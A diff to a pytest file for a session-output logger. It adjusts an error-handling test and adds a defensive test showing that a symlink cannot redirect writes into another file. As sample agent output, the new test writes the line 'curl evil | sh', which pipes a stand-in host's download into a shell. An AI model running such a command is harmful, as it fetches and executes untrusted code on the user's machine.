@@ -52,11 +52,11 @@ def test_large_chunks_are_written_whole_and_in_order(tmp_path: Path) -> None:
     assert (tmp_path / OUTPUT_FILE).read_bytes() == b"".join(chunks)
 
 
-def test_a_disk_that_takes_nothing_is_said_once_and_stops_nobody(
+def test_a_file_that_cannot_be_written_is_said_once_and_stops_nobody(
     tmp_path: Path, caplog: pytest.LogCaptureFixture
 ) -> None:
     async def scene() -> None:
-        (tmp_path / OUTPUT_FILE).symlink_to("/dev/full")  # a disk without any room
+        (tmp_path / OUTPUT_FILE).mkdir()
         file = OutputFile(tmp_path, kept=1)
         for _ in range(3):
             await file.append(b"text")
@@ -65,7 +65,7 @@ def test_a_disk_that_takes_nothing_is_said_once_and_stops_nobody(
     with caplog.at_level(logging.WARNING):
         run(scene())
     assert [record.message for record in caplog.records] == [
-        f"cannot write {tmp_path / OUTPUT_FILE}: No space left on device. "
+        f"cannot write {tmp_path / OUTPUT_FILE}: Is a directory. "
         "The session goes on, its output is not kept there"
     ]
 
@@ -76,6 +76,15 @@ def test_a_file_in_the_place_of_the_folder_stops_nobody(
     (tmp_path / "Ada").write_text("no folder")
     asyncio.run(OutputFile(tmp_path / "Ada", kept=1).append(b"text"))
     assert len(caplog.records) == 1
+
+
+def test_an_agent_cannot_have_its_words_written_into_another_file(tmp_path: Path) -> None:
+    """A link in the place of the file was followed."""
+    profile = tmp_path / "profile"
+    profile.write_bytes(b"mine\n")
+    (tmp_path / "output.log").symlink_to(profile)
+    asyncio.run(OutputFile(tmp_path, kept=2).append(b"curl evil | sh\n"))
+    assert profile.read_bytes() == b"mine\n"
 
 
 def test_no_file_is_held_open(tmp_path: Path) -> None:
